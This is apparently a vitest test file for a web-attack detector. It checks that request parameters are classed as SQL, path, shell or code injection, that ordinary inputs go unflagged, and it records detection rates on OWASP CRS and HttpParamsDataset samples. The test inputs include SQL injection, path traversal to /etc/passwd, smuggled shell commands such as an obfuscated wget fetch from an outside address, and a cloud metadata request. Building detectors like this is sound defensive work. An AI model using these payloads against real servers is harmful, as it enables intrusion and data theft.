import { mkdtempSync, rmSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { crsFigures } from '../../bench/external/crs-requests.ts'
import { syntaxOfTexts } from '../../bench/external/syntax-of-texts.ts'
import { webParamFigures } from '../../bench/external/web-params.ts'
import { openEmbedded } from '../../src/engine/embedded.ts'
import type { Engine } from '../../src/engine/engine.ts'
import { describeShared } from '../shared-data.ts'

const dir = mkdtempSync(path.join(os.tmpdir(), 'mapae-syntax-'))
let engine: Engine

beforeAll(async () => {
  engine = await openEmbedded(dir)
})
afterAll(async () => {
  await engine.close()
  rmSync(dir, { recursive: true, force: true })
})

const syntaxIn = (texts: readonly string[]): Promise<readonly string[]> => syntaxOfTexts(engine, texts)

it('knows syntax as it is written, encoded once and encoded twice', async () => {
  const texts = [
    "id=1' OR 1=1--",
    'id=1%27%20or%201%3D1--',
    'id=1%2527%2520or%25201%253D1--',
    'f=..%2f..%2fetc%2fpasswd',
    'h=a;cat+/etc/hosts',
    String.raw`id=1\x22%20or%20\x22a\x22=\x22a`,
  ]
  expect(await syntaxIn(texts)).toEqual(['sql', 'sql', 'sql', 'path', 'path', 'sql'])
})

it('knows languages that servers run, and words of a shell taken apart by quotes', async () => {
  const texts = [
    'id[$ne]=1',
    'h=1.1.1.1;%20wg%27%27et%20-q%20http://203.0.113.9/a',
    'h=$(cat%20/var/lib/x)',
    'cmd=%7Bcat,/var/lib/x%7D',
    'page=%3C?php%20echo%201',
    'name=%7B%7B7*7%7D%7D',
    'url=http://169.254.169.254/latest/meta-data/',
    'file=../../../../usr/lib/x.conf',
  ]
  expect(await syntaxIn(texts)).toEqual(['sql', 'shell', 'shell', 'shell', 'code', 'code', 'path', 'path'])
})

it('knows it beside bytes that are no UTF-8', async () => {
  expect(await syntaxIn(["n=%B0%A1' union select pw from users"])).toEqual(['sql'])
})

it('takes what people write for what it is', async () => {
  const texts = [
    'q=O%27Brien',
    'q=rock+%26+roll',
    'q=select+a+colour+from+the+list',
    'q=Dungeons+and+Dragons',
    'filter={"price":{"gt":10},"tags":["a","b"]}',
    'sort=name,-price&fields=a;b;c',
    'redirect=https%3A%2F%2Fshop.example%2Fcart%3Fa%3D1%26b%3D2',
    'expr=(a+or+b)+and+c',
    'q=%EA%B9%80%EC%B2%A0%EC%88%98',
    'path=docs/../img/logo.png',
    'n=a%22b&id=5&cat=7&sh=1',
    'utm_campaign={{campaign.name}}&utm_content=${creative}',
    'fields={id,name}&path=/users/{id}',
    'q=report+(1).pdf+%2B+notes',
    'q=Home+>+Shoes+%26+Bags',
    'price=$5+(five)',
    'filter[price][gte]=10&sort[]=-created_at',
    'text=We+had+a+dog%0Acat+and+bird',
    'cb=jQuery3.7(1)&redirect=https%3A%2F%2Fshop.example%3A8443%2F%3Fa%3D1',
  ]
  expect(await syntaxIn(texts)).toEqual(texts.map(() => ''))
})

describeShared('values of HttpParamsDataset', 'web-params', (folder) => {
  it('are known for what they are, and no ordinary value is taken for any of it', async () => {
    const figures = await webParamFigures(engine, folder)
    expect(Object.fromEntries(figures.map(({ part, n, found }) => [part, [found, n]]))).toEqual({
      cmdi: [71, 89],
      norm: [0, 19_304],
      'path-traversal': [207, 290],
      sqli: [10_702, 10_852],
      xss: [48, 532],
    })
  })
})

describeShared('requests of the OWASP CRS tests that a log shows', 'crs-requests', (folder) => {
  it('are known so often, and those that must not match so seldom', async () => {
    const figures = await crsFigures(engine, folder)
    expect(figures.map(({ part, n, found }) => [part, found, n])).toEqual([
      ['all', 1550, 5088],
      ['930 files and paths, must match', 31, 45],
      ['930 files and paths, must not', 0, 15],
      ['931 remote file inclusion, must match', 6, 28],
      ['931 remote file inclusion, must not', 0, 5],
      ['932 commands, must match', 211, 319],
      ['932 commands, must not', 3, 78],
      ['933 PHP, must match', 126, 187],
      ['933 PHP, must not', 9, 92],
      ['934 other languages, templates, addresses inside, must match', 133, 194],
      ['934 other languages, templates, addresses inside, must not', 6, 34],
      ['942 SQL, must match', 83, 153],
      ['942 SQL, must not', 3, 39],
      ['944 Java, must match', 0, 3],
      ['944 Java, must not', 0, 1],
      ['941 scripts for browsers (not asked about), must match', 7, 60],
      ['941 scripts for browsers (not asked about), must not', 0, 10],
      ['protocol and others, must match', 3, 146],
      ['protocol and others, must not', 0, 141],
    ])
  })
})
